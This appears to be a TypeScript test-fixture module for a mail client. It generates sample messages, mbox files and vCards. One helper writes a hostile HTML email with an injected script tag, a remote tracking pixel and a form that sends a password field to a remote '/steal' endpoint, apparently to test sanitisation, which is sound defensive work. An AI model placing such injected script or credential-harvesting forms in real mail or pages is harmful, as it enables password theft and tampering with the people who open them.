import { randomBytes } from 'node:crypto';
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

/** letter is a message of a test, as it stands in a file. */
export function letter(n: number, more: { subject?: string; from?: string; headers?: string; body?: string; date?: Date } = {}): string {
  const { subject = `Order ${n}`, from = 'Anna Berg <anna@contoso.example>', headers = '', body = `Hello, this is about order${n}.`, date = new Date(Date.UTC(2026, 10, 3, 8 + (Math.floor(n / 60) % 10), n % 60)) } = more;
  return [
    `From: ${from}`,
    'To: Ines Author <ines@northbeam.example>',
    `Subject: ${subject}`,
    `Date: ${date.toUTCString().replace('GMT', '+0000')}`,
    `Message-ID: <${n}@contoso.example>`,
    ...(headers === '' ? [] : [headers]),
    ...(/content-type/i.test(headers) ? [] : ['Content-Type: text/plain; charset=utf-8']),
    '',
    body,
    '',
  ].join('\r\n');
}

/** letters are that many messages of a test, "Letter 7", from a number on, each with about so many bytes that no compression makes fewer. */
export function letters(from: number, count: number, word = 'Letter', bytes = 0): string[] {
  return Array.from({ length: count }, (_, i) => {
    const n = from + i;
    const rest = bytes === 0 ? '' : (randomBytes(bytes * 0.75).toString('base64').match(/.{1,76}/g) ?? []).join('\r\n');
    return letter(n, { subject: `${word} ${n}`, body: `Hello, this is about ${word.toLowerCase()}${n}.\r\n${rest}` });
  });
}

/** mbox puts messages into one file, of the kind mboxrd. */
export function mbox(letters: string[]): string {
  return letters
    .map((one) => one.replaceAll('\r\n', '\n').replaceAll(/^(>*From )/gm, '>$1').replace(/\n?$/, '\n'))
    .map((one) => `From anna@contoso.example Tue Nov  3 08:02:00 2026\n${one}\n`)
    .join('');
}

/** html is a message of HTML with a picture of its own, and one from elsewhere. */
export function html(n: number, remote: string): string {
  const dot = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
  return letter(n, {
    subject: 'With pictures',
    headers: 'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"',
    body: [
      '--b',
      'Content-Type: text/html; charset=utf-8',
      '',
      `<p>Dear Ines, <b>see the plan</b>.</p><img alt="inside" src="cid:plan"><img alt="outside" src="${remote}/pixel.png"><script>parent.document.title = 'hacked'</script><form action="${remote}/steal"><input name="password"></form>`,
      '--b',
      'Content-Type: image/png; name="plan.png"',
      'Content-ID: <plan>',
      'Content-Disposition: inline',
      'Content-Transfer-Encoding: base64',
      '',
      dot,
      '--b--',
    ].join('\r\n'),
  });
}

/** files writes files into a new folder and returns it. */
export function files(content: Record<string, string | Buffer>): string {
  const folder = mkdtempSync(join(tmpdir(), 'regarding-mail-'));
  for (const [path, text] of Object.entries(content)) {
    const at = join(folder, path);
    mkdirSync(join(at, '..'), { recursive: true });
    writeFileSync(at, text);
  }
  return folder;
}

export const cards = [
  'BEGIN:VCARD',
  'VERSION:3.0',
  'FN:Anna Berg',
  'N:Berg;Anna;;;',
  'ORG:Contoso',
  'TITLE:Purchaser',
  'EMAIL;TYPE=work:anna@contoso.example',
  'TEL;TYPE=cell:+49 30 1234567',
  'END:VCARD',
  'BEGIN:VCARD',
  'VERSION:3.0',
  'FN:Board',
  'N:Board;;;;',
  'X-ADDRESSBOOKSERVER-KIND:group',
  'X-ADDRESSBOOKSERVER-MEMBER:mailto:ben@contoso.example',
  'END:VCARD',
  '',
].join('\r\n');
